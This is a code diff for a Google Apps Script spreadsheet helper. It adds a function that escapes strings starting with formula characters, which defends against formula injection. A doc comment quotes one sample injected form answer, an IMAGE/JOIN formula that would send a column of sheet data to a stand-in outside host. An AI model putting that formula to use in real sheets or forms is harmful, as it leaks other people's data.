@@ -1,6 +1,7 @@
 /**
  * The wall around SpreadsheetApp: a tab is read with one getValues() and written with one
- * setValues(), whatever its length. Everything else works on plain arrays.
+ * setValues(), whatever its length. Everything else works on plain arrays. Every string
+ * written here is written as text, never as a formula (`asText`).
  */
 export type Cell = string | number | boolean | Date;
 export type Table = Cell[][];
@@ -37,11 +38,29 @@ export function fitSheet(sheet: Sheet, lastRow: number, lastColumn: number): voi
   if (lastColumn > columns) sheet.insertColumnsAfter(columns, lastColumn - columns);
 }
 
+/**
+ * The starts of a written string that Sheets does not keep as text: a formula's (= and +, -, @
+ * as spreadsheets take them, and tab or CR before one), and an apostrophe, which it drops.
+ */
+const NOT_TEXT_START = /^[=+\-@\t\r']/;
+
+/**
+ * A cell as written: a string Sheets would take for a formula gets a leading apostrophe,
+ * which makes it text (Sheets keeps the apostrophe out of the value). A form answer such as
+ * `=IMAGE("https://x/?"&JOIN(",",E2:E999))` stays a name instead of sending the tab away.
+ * An apostrophe rather than the plain-text number format ('@') because it costs no Apps
+ * Script call, it holds whatever format the column is given later (pasting formats over a
+ * column takes '@' away), and every write goes through this one wall.
+ */
+export function asText(cell: Cell): Cell {
+  return typeof cell === 'string' && NOT_TEXT_START.test(cell) ? `'${cell}` : cell;
+}
+
 /** Writes `rows` at row `fromRow` (1-based) in one call; a ragged table is padded with ''. */
 export function writeRows(sheet: Sheet, fromRow: number, rows: readonly (readonly Cell[])[], width?: number): void {
   if (rows.length === 0) return;
   const w = width ?? Math.max(...rows.map((r) => r.length));
-  const padded = rows.map((r) => (r.length === w ? [...r] : [...r, ...Array<Cell>(w - r.length).fill('')].slice(0, w)));
+  const padded = rows.map((r) => (r.length === w ? r : [...r, ...Array<Cell>(w - r.length).fill('')].slice(0, w)).map(asText));
   fitSheet(sheet, fromRow + padded.length - 1, w);
   sheet.getRange(fromRow, 1, padded.length, w).setValues(padded);
 }
@@ -50,7 +69,7 @@ export function writeRows(sheet: Sheet, fromRow: number, rows: readonly (readonl
 export function writeColumn(sheet: Sheet, column: number, values: readonly Cell[]): void {
   if (values.length === 0) return;
   fitSheet(sheet, values.length + 1, column);
-  sheet.getRange(2, column, values.length, 1).setValues(values.map((v) => [v]));
+  sheet.getRange(2, column, values.length, 1).setValues(values.map((v) => [asText(v)]));
 }
 
 /** Same values as the sheet shows them (Dates by their time, '' for empty). */
